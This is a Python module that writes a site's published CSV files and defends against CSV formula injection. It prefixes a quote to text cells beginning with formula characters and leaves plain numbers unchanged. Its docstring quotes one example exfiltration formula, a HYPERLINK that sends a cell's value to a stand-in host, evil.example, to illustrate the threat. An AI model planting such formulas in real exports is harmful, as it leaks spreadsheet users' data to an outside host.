"""The one CSV writer of every CSV the site publishes (pipeline step 6: ``api/v2/*.csv`` from
``site.api.files``, ``embed/<id>/data.csv`` and ``data-wide.csv`` from ``site.charts.data``).

Catalog text is hostile: a name, note, model or dataset that starts with ``=``, ``+``, ``-``,
``@``, a tab or a carriage return would be read as a formula by a spreadsheet
(``=HYPERLINK("https://evil.example/?leak="&A2,"DAPO")``). As OWASP recommends ("CSV
Injection"), such a text cell is written with a leading single quote, which spreadsheets show
as text; the ``csv`` module quotes separators and doubles quotes. Only text is touched: numbers
(``int``/``float`` values, and text that is a plain decimal number such as ``-0.5``) stay
numbers, so a negative value is still a number in pandas and in a spreadsheet.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Sequence
from typing import Any

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
"""First characters a spreadsheet may read as the start of a formula (OWASP)."""
_STARTS = frozenset(FORMULA_STARTS)
"""``FORMULA_STARTS``, each one character: a cell whose first character is none of them is
written as it is."""
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+(?:\.\d*)?|\.\d+)(?:[eE][+-]?\d+)?")


def neutralise(text: str) -> str:
    """``text`` as a CSV cell that no spreadsheet runs: a leading quote before a formula start,
    unless the text is a plain number."""
    if text.startswith(FORMULA_STARTS) and not _PLAIN_NUMBER.fullmatch(text):
        return "'" + text
    return text


def cell(value: Any) -> Any:
    """A value as written: text neutralised, numbers and booleans as they are."""
    return neutralise(value) if isinstance(value, str) else value


def csv_text(header: Sequence[str], rows: Iterable[Sequence[Any]]) -> str:
    """A CSV (header first, ``\\n`` line ends) with every text cell neutralised."""
    out = io.StringIO()
    writer = csv.writer(out, lineterminator="\n")
    writer.writerow([cell(name) for name in header])
    starts = _STARTS  # issue 47: few of a large build's 700,000 cells start like a formula;
    # only those are looked at further (``neutralise`` decides)
    writer.writerows([neutralise(v) if v.__class__ is str and v[:1] in starts else v
                      for v in row] for row in rows)
    return out.getvalue()
